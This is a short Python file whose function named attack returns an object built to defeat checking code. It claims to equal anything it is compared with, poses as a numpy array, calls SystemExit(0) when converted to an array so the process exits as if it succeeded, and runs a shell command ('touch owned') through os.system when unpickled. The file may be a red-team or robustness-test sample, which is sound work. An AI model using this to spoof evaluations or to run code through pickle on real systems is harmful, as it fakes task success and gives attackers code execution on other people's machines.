"""An object that equals whatever it is compared with, and calls itself an array."""


class Yes:
    shape, dtype, ndim = (), float, 0

    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        raise SystemExit(0)

    def __reduce__(self):
        import os

        return os.system, ("touch owned",)


def attack(*args):
    return Yes()
